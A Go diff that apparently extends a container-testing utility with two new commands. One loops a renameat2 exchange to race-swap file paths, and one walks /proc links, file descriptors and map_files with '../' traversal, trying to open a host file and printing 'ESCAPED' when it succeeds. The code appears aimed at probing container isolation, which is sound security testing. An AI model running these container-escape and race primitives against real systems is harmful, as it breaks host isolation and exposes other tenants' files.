@@ -174,6 +174,14 @@ func do(verb string, a []string) error {
 		return f.Close()
 	case "setresuid":
 		return syscall.Setresuid(num(a[0]), num(a[1]), num(a[2]))
+	case "swap":
+		return flip(a[0], a[1], true)
+	case "flip": // swap two names for ever
+		return flip(a[0], a[1], false)
+	case "usleep":
+		syscall.Select(0, nil, nil, nil, &syscall.Timeval{Usec: int64(num(a[0]))})
+	case "walkproc": // look for a file of the host behind every link that /proc shows of others
+		walkProc(a[0])
 	case "keepcaps":
 		return onAllThreads(syscall.SYS_PRCTL, 8, 1, 0)
 	case "capset": // what a container has
@@ -493,4 +501,72 @@ func onAllThreads(nr, a, b, c uintptr) error {
 		return errno
 	}
 	return nil
+}
+
+func flip(a, b string, once bool) error {
+	const exchange = 2
+	pa, err := syscall.BytePtrFromString(a)
+	if err != nil {
+		return err
+	}
+	pb, err := syscall.BytePtrFromString(b)
+	if err != nil {
+		return err
+	}
+	nr := map[string]uintptr{"amd64": 316, "arm64": 276, "riscv64": 276}[runtime.GOARCH]
+	at := -100
+	for i := 0; ; i++ {
+		if i%8 == 0 { // who is attacked needs a processor too
+			syscall.Select(0, nil, nil, nil, &syscall.Timeval{Usec: 50})
+		}
+		_, _, errno := syscall.Syscall6(nr, uintptr(at), uintptr(unsafe.Pointer(pa)), uintptr(at), uintptr(unsafe.Pointer(pb)), exchange, 0)
+		if errno != 0 && errno != syscall.ENOENT && errno != syscall.EBUSY {
+			return errno
+		}
+		if once {
+			return nil
+		}
+	}
+}
+
+// walkProc prints "ESCAPED NAME" for every way to the file of the host, and how many it tried.
+func walkProc(file string) {
+	up := strings.Repeat("../", 40)
+	tried := 0
+	try := func(name string) {
+		tried++
+		if f, err := os.Open(name); err == nil {
+			fmt.Println("ESCAPED", name)
+			f.Close()
+		}
+	}
+	process := func(dir string) {
+		for _, link := range []string{"root", "cwd", "exe"} {
+			try(dir + "/" + link + "/" + up + file)
+		}
+		try(dir + "/root" + file)
+		for _, fds := range []string{"/fd", "/map_files"} {
+			es, err := os.ReadDir(dir + fds)
+			for n := range 24 { // its numbers can be guessed where they are not shown
+				if err != nil {
+					try(dir + fds + "/" + strconv.Itoa(n) + "/" + up + file)
+				}
+			}
+			for _, e := range es {
+				try(dir + fds + "/" + e.Name() + "/" + up + file)
+			}
+		}
+	}
+	es, _ := os.ReadDir("/proc")
+	for _, e := range es {
+		if e.Name()[0] < '0' || e.Name()[0] > '9' {
+			continue
+		}
+		process("/proc/" + e.Name())
+		tasks, _ := os.ReadDir("/proc/" + e.Name() + "/task")
+		for _, task := range tasks {
+			process("/proc/" + e.Name() + "/task/" + task.Name())
+		}
+	}
+	fmt.Println("tried", tried)
 }
